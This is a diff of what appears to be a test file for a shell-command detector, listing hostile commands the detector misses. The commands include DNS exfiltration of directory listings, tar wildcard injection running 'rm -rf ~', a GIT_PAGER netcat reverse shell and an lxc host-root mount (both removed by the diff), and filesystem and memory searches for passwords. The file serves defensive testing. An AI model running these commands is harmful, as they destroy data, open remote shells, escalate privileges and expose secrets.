@@ -451,13 +451,9 @@ unmet("a command's output in a DNS name is caught for cat of a file, not for a l
       "for i in $(ls /) ; do host \"$i.3a43c7e4e57a8d0e2057.d.zhack.ca\"; done")
 unmet("file names a glob turns into tar's options: the files the line made are not matched against the glob",
       "touch -- '--checkpoint=1' '--checkpoint-action=exec=rm -rf ~' && tar cf archive.tar *")
-unmet("a git setting that is code, set for the session by export (GIT_PAGER), is not read as code",
-      "export GIT_PAGER='nohup nc -e /bin/sh 10.0.0.1 4242 >/dev/null 2>&1 & less'")
-unmet("lxc's host disk device (source=/) is not read as a container that owns the host",
-      "lxc config device add mycontainer mydevice disk source=/ path=/mnt/root recursive=true")
-unmet("a search of every file or the memory for passwords, and keys found by find and printed by xargs cat, are "
-      "not read as secrets reached", "grep --color=auto -rnw '/' -ie \"PASSWORD\" --color=always 2> /dev/null",
-      "strings /dev/mem -n10 | grep -i PASS", "find / -name authorized_keys 2> /dev/null | xargs cat")
+unmet("our label, wrong in substance: authorized_keys holds public keys, which no secret pattern names "
+      "(rightly); the note's \"every private key printed\" does not hold for it",
+      "find / -name authorized_keys 2> /dev/null | xargs cat")
 unmet("refused: an array of literal words run by \"${cmd[@]}\" is read as a command the parser cannot see",
       "cmd=(git log --oneline -5); \"${cmd[@]}\"")
 
